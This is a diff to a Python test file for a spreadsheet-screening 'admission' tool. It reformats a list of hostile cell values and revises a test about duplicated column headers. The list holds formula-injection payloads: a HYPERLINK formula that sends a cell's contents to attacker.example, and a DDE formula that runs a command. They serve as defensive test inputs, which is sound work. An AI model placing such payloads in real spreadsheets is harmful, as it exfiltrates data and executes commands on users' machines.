@@ -38,7 +38,13 @@ from .pdf_tools import pdf_text
 AS_OF = ["--as-of", REVIEW_DATE.isoformat()]
 ADMIT = [sys.executable, "-m", "admission"]
 HOSTILE_NAMES = [
-    '=HYPERLINK("http://attacker.example/?x="&A1,"点击查看")', "=cmd|' /C calc'!A0", "+1+2", "-3+4", "@SUM(A1)", "\t=1", "\r=1"
+    '=HYPERLINK("http://attacker.example/?x="&A1,"点击查看")',
+    "=cmd|' /C calc'!A0",
+    "+1+2",
+    "-3+4",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
 ]
 
 
@@ -384,8 +390,10 @@ def test_repeated_column_headers_are_reported_and_disagreeing_rows_refused(tmp_p
     workbook.save(path)
     code, out, _ = run("screen", "--json", *AS_OF, str(path))
     assert code == 2
-    results = {r["source"].rsplit("#", 1)[1]: r for r in json.loads(out)["results"]}
-    assert "重复" in results["1"]["error"]["problems"][0]["message"]
+    screened = json.loads(out)
+    results = {r["source"].rsplit("#", 1)[1]: r for r in screened["results"]}
+    assert "1" not in results, "the header row is not an application"
+    assert any("重复" in notice for notice in screened["notices"])
     assert "decision" in results["2"]
     assert "无法确定以哪一列为准" in results["3"]["error"]["problems"][0]["message"]
 
